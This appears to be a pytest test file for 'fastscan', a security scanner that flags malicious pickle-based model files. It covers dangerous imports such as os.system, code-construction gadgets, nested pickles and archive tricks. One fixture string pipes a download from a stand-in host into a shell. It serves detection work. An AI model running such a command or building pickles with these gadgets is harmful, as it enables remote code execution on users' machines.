"""The rules engine turning hand-built StreamFacts into findings (the tokenizer is not needed
here): calls and imports, unresolved and dotted names, statuses and anomalies, strings,
container anomalies, deduplication, suppressions, joblib segments."""

from __future__ import annotations

from pathlib import Path

import pytest

from fastscan import findings as R
from fastscan.containers import anomalies as container_anomalies
from fastscan.containers.base import Container, ContainerAnomaly, PickleStream
from fastscan.facts import (
    ALL_ANOMALY_CODES,
    STATUS_BUDGET,
    STATUS_NOT_PICKLE,
    STATUS_OK,
    STATUS_TRUNCATED,
    Anomaly,
    CallSite,
    GlobalRef,
    NestedPickle,
    StreamFacts,
)
from fastscan.findings import Finding, Severity
from fastscan.rules import (
    REGISTRY,
    RuleSet,
    default_ruleset,
    evaluate,
)
from fastscan.rules.collect import MAX_FINDINGS_PER_RULE
from fastscan.rules.structure import ANOMALY_RULES

SHIPPED = default_ruleset()


# --- engine: facts -> findings -----------------------------------------------------------------


def make_facts(
    globals_: list[tuple[str, str]] = (),  # type: ignore[assignment]
    calls: list[tuple[str, int]] = (),  # type: ignore[assignment]
    *,
    status: str = STATUS_OK,
    error_offset: int = -1,
    anomalies: tuple[Anomaly, ...] = (),
    strings: tuple[str, ...] = (),
    nested: tuple[NestedPickle, ...] = (),
    n_pickles: int = 1,
    unresolved: frozenset[int] = frozenset(),
    call_of_call_at: int = -1,
    producer: int = -1,
) -> StreamFacts:
    """StreamFacts with global i at offset 10*i and call j at offset 100 + 10*j."""
    refs = tuple(
        GlobalRef(m, n, "STACK_GLOBAL", 10 * i, 0, i not in unresolved)
        for i, (m, n) in enumerate(globals_)
    )
    sites = [CallSite(op, 100 + 10 * j, 0, idx) for j, (op, idx) in enumerate(calls)]
    if call_of_call_at >= 0:
        sites.append(
            CallSite(
                "REDUCE",
                call_of_call_at,
                0,
                -1,
                callable_is_call=True,
                callable_call_index=producer,
            )
        )
    return StreamFacts(
        status=status,
        error_offset=error_offset,
        length=1000,
        n_pickles=n_pickles,
        pickle_offsets=tuple(range(0, 100 * n_pickles, 100)),
        globals=refs,
        calls=tuple(sites),
        strings=strings,
        nested=nested,
        anomalies=anomalies,
    )


def ids(findings: list[Finding]) -> list[str]:
    return sorted(f.rule_id for f in findings)


def by_rule(findings: list[Finding], rule: R.FindingRule) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule.rule_id]


def torch_zip(*members: str) -> Container:
    return Container("torch_zip", ".pt", streams=[PickleStream(m, 0, b"") for m in members])


def test_registry_ids_are_unique_well_formed_and_used_by_the_engine() -> None:
    assert all(len(k) == 5 and k.startswith("FS") and k[2:].isdigit() for k in REGISTRY)
    assert all(REGISTRY[r.rule_id] is r for r in ANOMALY_RULES.values())
    assert all(REGISTRY[k.rule.rule_id] is k.rule for k in container_anomalies.BY_CODE.values())
    assert {k[2] for k in REGISTRY} == {"1", "2", "3", "9"}


def test_every_tokenizer_anomaly_code_is_mapped_deliberately() -> None:
    handled_in_context = {"persid", "stack_global_non_string"}
    assert set(ALL_ANOMALY_CODES) - handled_in_context <= set(ANOMALY_RULES)


def test_clean_torch_like_stream_has_no_findings() -> None:
    facts = make_facts(
        [
            ("collections", "OrderedDict"),
            ("torch._utils", "_rebuild_tensor_v2"),
            ("torch", "FloatStorage"),
        ],
        [("REDUCE", 0), ("REDUCE", 1), ("BUILD", 0)],
        anomalies=(Anomaly("persid", 40),),
        strings=("conv.weight", "archive/data/0", "cpu"),
    )
    assert evaluate([("archive/data.pkl", facts)], torch_zip("archive/data.pkl")) == []


def test_dangerous_import_and_call() -> None:
    imported = evaluate([("m", make_facts([("os", "system")]))])
    assert ids(imported) == ["FS101"]
    assert imported[0].severity == Severity.MALICIOUS
    assert (imported[0].member, imported[0].offset, imported[0].subject) == ("m", 0, "os.system")
    called = evaluate([("m", make_facts([("nt", "system")], [("REDUCE", 0)]))])
    assert ids(called) == ["FS102"]  # the call replaces the import finding for the same name
    assert called[0].offset == 100 and "os.system" in called[0].message
    assert called[0].severity == Severity.MALICIOUS


@pytest.mark.parametrize("opcode", ["REDUCE", "OBJ", "INST", "NEWOBJ", "NEWOBJ_EX"])
def test_every_call_opcode_counts_as_a_call(opcode: str) -> None:
    assert ids(evaluate([("", make_facts([("posix", "system")], [(opcode, 0)]))])) == ["FS102"]


def test_build_is_not_a_call() -> None:
    assert ids(evaluate([("", make_facts([("os", "system")], [("BUILD", 0)]))])) == ["FS101"]


def test_unknown_global_is_suspicious_never_a_pass() -> None:
    found = evaluate([("", make_facts([("mylab.models", "Net")], [("REDUCE", 0)]))])
    assert ids(found) == ["FS103"]
    assert found[0].severity == Severity.SUSPICIOUS and "called" in found[0].message


def test_unresolved_globals() -> None:
    facts = make_facts([("?", "?")], unresolved=frozenset({0}))
    assert [f.severity for f in evaluate([("", facts)])] == [Severity.SUSPICIOUS]
    called = make_facts([("?", "?")], [("REDUCE", 0)], unresolved=frozenset({0}))
    assert [(f.rule_id, f.severity) for f in evaluate([("", called)])] == [
        ("FS104", Severity.MALICIOUS)
    ]
    budget = make_facts(
        [("?", "?")],
        [("REDUCE", 0)],
        unresolved=frozenset({0}),
        anomalies=(Anomaly("memo_budget", 5),),
    )
    assert by_rule(evaluate([("", budget)]), R.UNRESOLVED_GLOBAL)[0].severity == Severity.SUSPICIOUS


def test_dotted_names() -> None:
    smuggled = evaluate([("", make_facts([("numpy", "prod.a")]))])
    # FS109 when the ecosystem index knows numpy (it defines no `prod.a`), else unlisted FS103
    expected = "FS109" if SHIPPED.index is not None else "FS103"
    assert ids(smuggled) == sorted([expected, "FS105"])
    through = evaluate([("", make_facts([("torch", "serialization.os.system")], [("REDUCE", 0)]))])
    assert ids(through) == ["FS102"]
    assert "-> os.system" in through[0].message
    safe_target = evaluate([("", make_facts([("pickle", "codecs.encode")]))])
    assert ids(safe_target) == ["FS105"]


def test_code_construction_and_calling_what_was_built() -> None:
    built = make_facts(
        [("types", "CodeType"), ("types", "FunctionType")], [("REDUCE", 0), ("REDUCE", 1)]
    )
    assert ids(evaluate([("", built)])) == ["FS106", "FS106"]

    def grade(globals_: list[tuple[str, str]], producer: int) -> list[tuple[Severity, int]]:
        calls = [("REDUCE", i) for i in range(len(globals_))]
        facts = make_facts(globals_, calls, call_of_call_at=300, producer=producer)
        return [
            (f.severity, f.offset) for f in by_rule(evaluate([("", facts)]), R.CALL_OF_CALL_RESULT)
        ]

    # calling the function cloudpickle/dill/types built: the stream runs its own code
    assert grade([("cloudpickle.cloudpickle", "_make_function")], 0) == [(Severity.MALICIOUS, 300)]
    assert grade([("dill._dill", "_create_function")], 0) == [(Severity.MALICIOUS, 300)]
    # getattr(obj, name)(...) (E6)
    assert grade([("builtins", "getattr")], 0) == [(Severity.MALICIOUS, 300)]
    # cloudpickle's own _builtin_type("CodeType")(...) only constructs: recorded, not flagged
    assert grade([("cloudpickle.cloudpickle", "_builtin_type")], 0) == [(Severity.LOW, 300)]
    # producer unknown (tokenizer did not say which call): a resolver global decides
    assert grade([("builtins", "getattr")], -1) == [(Severity.MALICIOUS, 300)]
    assert grade([("types", "FunctionType")], -1) == [(Severity.SUSPICIOUS, 300)]
    assert grade([("mylab", "Factory")], -1) == [(Severity.SUSPICIOUS, 300)]


def test_reviewed_unknown_decoder() -> None:
    found = evaluate([("", make_facts([("base64", "b64decode")], [("REDUCE", 0)]))])
    assert ids(found) == ["FS108"] and "decoder" in found[0].message


def test_fail_closed_on_broken_stream() -> None:
    unsafe_then_break = make_facts(
        [("mylab", "thing")], [("REDUCE", 0)], status=STATUS_TRUNCATED, error_offset=500
    )
    broken = by_rule(evaluate([("", unsafe_then_break)]), R.BROKEN_AFTER_CALL)
    assert [(f.severity, f.offset) for f in broken] == [(Severity.MALICIOUS, 500)]
    safe_then_break = make_facts(
        [("collections", "OrderedDict")], [("REDUCE", 0)], status=STATUS_TRUNCATED, error_offset=500
    )
    found = evaluate([("", safe_then_break)])
    assert [(f.rule_id, f.severity) for f in found] == [("FS201", Severity.SUSPICIOUS)]
    call_after_break = make_facts(
        [("mylab", "thing")], [("REDUCE", 0)], status="bad_opcode", error_offset=50
    )
    assert ids(evaluate([("", call_after_break)])) == ["FS103", "FS202"]


def test_other_statuses() -> None:
    assert [
        (f.rule_id, f.severity) for f in evaluate([("", make_facts(status=STATUS_BUDGET))])
    ] == [("FS204", Severity.SUSPICIOUS)]
    assert [
        (f.rule_id, f.severity) for f in evaluate([("", make_facts(status=STATUS_NOT_PICKLE))])
    ] == [("FS203", Severity.INFO)]


@pytest.mark.parametrize(
    ("code", "rule", "severity"),
    [
        ("build_on_global", R.MUTATES_GLOBAL, Severity.MALICIOUS),
        ("setitem_on_global", R.MUTATES_GLOBAL, Severity.MALICIOUS),
        ("frame_violation", R.FRAME_VIOLATION, Severity.SUSPICIOUS),
        ("bad_memo_get", R.MEMO_TRICK, Severity.SUSPICIOUS),
        ("memo_type_confusion", R.MEMO_TRICK, Severity.SUSPICIOUS),
        ("duplicate_proto", R.PROTO_TRICK, Severity.SUSPICIOUS),
        ("ext_code", R.EXT_CODE, Severity.SUSPICIOUS),
        ("non_utf8_name", R.NON_UTF8_NAME, Severity.SUSPICIOUS),
        ("trailing_junk", R.TRAILING_JUNK, Severity.LOW),
        ("frame_in_old_protocol", R.ODD_STRUCTURE, Severity.LOW),
        ("persid", R.PERSID_OUTSIDE_TORCH, Severity.SUSPICIOUS),
        ("some_future_code", R.ODD_STRUCTURE, Severity.LOW),
    ],
)
def test_anomaly_codes_become_structure_findings(
    code: str, rule: R.FindingRule, severity: Severity
) -> None:
    found = evaluate([("m", make_facts(anomalies=(Anomaly(code, 77, 0, "why"),)))])
    assert [(f.rule_id, f.severity, f.offset, f.subject) for f in found] == [
        (rule.rule_id, severity, 77, code)
    ]


def test_persid_is_normal_in_torch_files_only() -> None:
    facts = make_facts(anomalies=(Anomaly("persid", 3),))
    assert evaluate([("archive/data.pkl", facts)], torch_zip("archive/data.pkl")) == []
    legacy = Container("raw_pickle", ".pt", streams=[PickleStream("", 0, b"", kind="legacy_torch")])
    assert evaluate([("", facts)], legacy) == []
    assert ids(evaluate([("", facts)], Container("joblib", ".joblib"))) == ["FS214"]


def test_frame_overrun_in_a_truncated_stream_is_just_truncation() -> None:
    facts = make_facts(
        status=STATUS_TRUNCATED, error_offset=9, anomalies=(Anomaly("frame_overrun", 2),)
    )
    found = evaluate([("", facts)])
    assert {(f.rule_id, f.severity) for f in found} == {
        ("FS202", Severity.SUSPICIOUS), ("FS219", Severity.LOW)
    }  # fmt: skip


def test_multiple_pickles_where_one_is_expected() -> None:
    facts = make_facts(n_pickles=2)
    assert ids(evaluate([("archive/data.pkl", facts)], torch_zip("archive/data.pkl"))) == ["FS213"]
    assert evaluate([("", facts)]) == []  # raw pickle files may hold several (C3 is a note)


def test_nested_pickles_are_walked_and_reported_at_the_outer_offset() -> None:
    inner = make_facts([("os", "system")], [("REDUCE", 0)])
    outer = make_facts(
        [("pickle", "loads")],
        [("REDUCE", 0)],
        nested=(NestedPickle(400, 60, "raw", inner), NestedPickle(600, 80, "base64", inner)),
    )
    found = evaluate([("m", outer)])
    assert ids(found) == ["FS102", "FS102", "FS210", "FS211"]
    inner_call = [f for f in found if f.subject == "os.system"]
    assert [f.offset for f in inner_call] == [400]  # deduplicated per (rule, member, subject)
    assert "nested pickle at offset 400" in inner_call[0].message


def test_suspicious_strings() -> None:
    found = evaluate(
        [
            (
                "",
                make_facts(
                    strings=(
                        "conv1.weight",
                        "curl http://evil.example/x | sh",
                        "https://huggingface.co/bert",
                    )
                ),
            )
        ]
    )
    assert [(f.rule_id, f.severity) for f in found] == [
        ("FS215", Severity.SUSPICIOUS),
        ("FS216", Severity.LOW),
    ]
    assert evaluate([("", make_facts(strings=("system_prompt_len", "execution", "layer.0")))]) == []


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("zip_flag_encrypted", R.ZIP_FLAG),
        ("zip_flag_patched", R.ZIP_FLAG),
        ("zip_flag_strong_encryption", R.ZIP_FLAG),
        ("zip_name_mismatch", R.ZIP_NAME_MISMATCH),
        ("zip_crc_mismatch", R.ZIP_CRC_MISMATCH),
        ("zip_prefix_data", R.ZIP_PREFIX),
        ("zip_path_traversal", R.ARCHIVE_PATH_ABUSE),
        ("zip_symlink_member", R.ARCHIVE_PATH_ABUSE),
        ("legacy_magic_forged", R.LEGACY_TORCH_TRICK),
        ("trailing_data", R.TRAILING_DATA),
        ("joblib_walk_budget", R.CONTAINER_BUDGET),
        ("budget_members", R.CONTAINER_BUDGET),
        ("polyglot_tar_zip", R.POLYGLOT),
        ("zip_encrypted_member", R.ENCRYPTED),
        ("tar_link_member", R.ARCHIVE_PATH_ABUSE),
        ("decompress_error", R.PARTIAL_SCAN),
        ("npy_bad_header", R.MALFORMED_HEADER),
        ("something_new", R.CONTAINER_NOTE),
    ],
)
def test_container_anomalies(code: str, rule: R.FindingRule) -> None:
    container = Container("torch_zip", ".pt", anomalies=[ContainerAnomaly(code, "archive/x", "d")])
    found = evaluate([], container)
    assert [(f.rule_id, f.member, f.subject) for f in found] == [(rule.rule_id, "archive/x", code)]


@pytest.mark.parametrize(
    ("status", "rule"),
    [
        ("partial", R.PARTIAL_SCAN),
        ("encrypted", R.ENCRYPTED),
        ("error", R.SCAN_ERROR),
        ("unsupported", R.UNSUPPORTED),
    ],
)
def test_container_status(status: str, rule: R.FindingRule) -> None:
    found = evaluate([], Container("zip", ".zip", status=status, budget=""))
    assert ids(found) == [rule.rule_id]
    # a note only: verdict.combine applies the incomplete-scan policy (see test_verdict.py)
    assert found[0].severity <= Severity.LOW
    assert evaluate([], Container("zip", ".zip")) == []


def test_findings_are_deduplicated_and_capped() -> None:
    same = make_facts([("mylab", "A"), ("mylab", "A")])
    assert ids(evaluate([("", same)])) == ["FS103"]
    many = make_facts([("mylab", f"C{i}") for i in range(200)])
    found = evaluate([("", many)])
    assert len(found) == MAX_FINDINGS_PER_RULE + 1
    assert "omitted" in found[-1].message
    # the cap is per member
    assert len(evaluate([("a", many), ("b", many)])) == 2 * (MAX_FINDINGS_PER_RULE + 1)


def test_suppressions_by_rule_path_subject_and_member(tmp_path: Path) -> None:
    path = tmp_path / "fastscan.toml"
    path.write_text(
        """
[[suppress]]
rule = "FS103"
subject = "mylab.*"
path = "*/legacy/*"
reason = "old in-house format"

[[suppress]]
rule = "FS216"
member = "archive/*"
reason = "model cards link to the hub"
""",
    )
    rules = RuleSet.load(path)
    facts = make_facts([("mylab", "A"), ("other", "B")], strings=("see https://hub.example/x",))

    def active(findings: list[Finding]) -> list[str]:
        return sorted(f.rule_id for f in findings if not f.suppressed)

    legacy = evaluate([("archive/data.pkl", facts)], None, rules, path="/m/legacy/a.pkl")
    assert active(legacy) == ["FS103"]
    # suppressed findings stay, marked with the config and reason (the audit trail)
    marked = sorted((f.rule_id, f.suppressed) for f in legacy if f.suppressed)
    assert marked == [
        ("FS103", f"{path}: old in-house format"),
        ("FS216", f"{path}: model cards link to the hub"),
    ]
    assert active(evaluate([("archive/data.pkl", facts)], None, rules, path="/m/new/a.pkl")) == [
        "FS103",
        "FS103",
    ]
    assert active(evaluate([("data.pkl", facts)], None, rules, path="/m/legacy/a.pkl")) == [
        "FS103",
        "FS216",
    ]


def test_evaluate_is_linear_and_fast() -> None:
    import time

    big = make_facts(
        [("torch._utils", "_rebuild_tensor_v2")] * 5000 + [("collections", "OrderedDict")],
        [("REDUCE", i) for i in range(5000)],
    )
    start = time.perf_counter()
    assert evaluate([("", big)]) == []
    assert time.perf_counter() - start < 0.5


def _joblib(*offsets: int) -> Container:
    return Container(
        "joblib", ".joblib", streams=[PickleStream("", o, b"", "joblib") for o in offsets]
    )


def test_joblib_segments_cut_around_arrays_are_not_parse_failures() -> None:
    # joblib writes raw array bytes inside the pickle; the reader cuts it into segments that are
    # tokenized one by one, so segments end (and start) mid-pickle by construction (A12).
    first = make_facts(
        [
            ("sklearn.ensemble._forest", "RandomForestClassifier"),
            ("joblib.numpy_pickle", "NumpyArrayWrapper"),
        ],
        [("NEWOBJ", 0), ("NEWOBJ", 1)],
        status=STATUS_TRUNCATED,
        error_offset=900,
    )
    middle = StreamFacts(
        status=STATUS_TRUNCATED,
        error_offset=250,
        length=250,
        n_pickles=1,
        calls=(CallSite("NEWOBJ", 100, 0, -1), CallSite("REDUCE", 200, 0, -1)),
        anomalies=(Anomaly("bad_memo_get", 80), Anomaly("stack_underflow", 11)),
    )
    last = StreamFacts(
        status=STATUS_OK, length=25, n_pickles=1, anomalies=(Anomaly("mark_missing", 9),)
    )
    found = evaluate([("", first), ("", middle), ("", last)], _joblib(0, 944, 1400))
    assert {f.severity for f in found} == {Severity.LOW}
    assert sorted(f.offset for f in found) == [944 + 11, 944 + 80, 1400 + 9]  # member offsets
    # a dangerous import in any segment is still malicious
    payload = make_facts([("os", "system")], status=STATUS_TRUNCATED, error_offset=60)
    found = evaluate([("", first), ("", payload), ("", last)], _joblib(0, 944, 1400))
    assert [(f.rule_id, f.offset) for f in found if f.severity == Severity.MALICIOUS] == [
        ("FS101", 944)
    ]
    # the last segment must end with STOP; a break after an opaque call is flagged
    found = evaluate([("", first), ("", middle)], _joblib(0, 944))
    assert [(f.rule_id, f.severity) for f in found if f.rule_id == "FS201"] == [
        ("FS201", Severity.SUSPICIOUS)
    ]


def test_a_lone_joblib_stream_is_judged_like_any_pickle() -> None:
    broken = make_facts(
        [("mylab", "thing")], [("REDUCE", 0)], status=STATUS_TRUNCATED, error_offset=500
    )
    found = evaluate([("", broken)], _joblib(0))
    assert by_rule(found, R.BROKEN_AFTER_CALL)[0].severity == Severity.MALICIOUS


def test_offsets_are_relative_to_the_member_when_the_stream_is_a_region() -> None:
    container = Container(
        "torch_legacy", ".pt", streams=[PickleStream("", 0, b""), PickleStream("", 300, b"")]
    )
    found = evaluate([("", make_facts()), ("", make_facts([("os", "system")]))], container)
    assert [(f.rule_id, f.offset) for f in found] == [("FS101", 300)]
